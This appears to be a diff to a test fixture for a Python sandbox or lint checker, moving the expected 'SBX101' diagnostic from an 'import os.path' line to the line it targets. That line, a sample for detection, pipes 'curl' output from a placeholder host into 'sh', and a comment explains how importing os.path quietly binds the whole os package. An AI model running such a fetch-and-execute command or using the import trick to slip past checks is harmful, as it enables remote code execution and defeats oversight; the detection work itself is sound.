@@ -1,7 +1,7 @@
 # label: evasion
 # family: imports
-import os.path  # want: SBX101
+import os.path
 
 # Looks like path handling, but the whole os package is now bound.
 base = os.path.dirname(__file__)
-os.system("curl -s http://example.invalid/x | sh")
+os.system("curl -s http://example.invalid/x | sh")  # want: SBX101
